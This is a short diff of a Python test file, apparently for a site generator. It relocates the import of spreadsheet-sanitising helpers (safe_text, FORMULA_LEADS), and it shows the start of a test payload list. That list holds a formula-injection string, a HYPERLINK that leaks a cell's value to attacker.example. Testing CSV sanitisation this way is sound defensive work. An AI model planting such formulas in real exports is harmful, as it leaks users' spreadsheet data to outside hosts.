@@ -11,9 +11,9 @@ from pathlib import Path
 import pytest
 from fixturelib import MINIMAL, zwpj
 
+from generator.load.spreadsheets import FORMULA_LEADS, csv_cells, safe_text
 from generator.pipeline import check, score_all
 from generator.render.site import SiteItem, write_docs
-from generator.spreadsheets import FORMULA_LEADS, csv_cells, safe_text
 
 PAYLOADS = [
     '=HYPERLINK("http://attacker.example/?leak="&A1,"点此")',
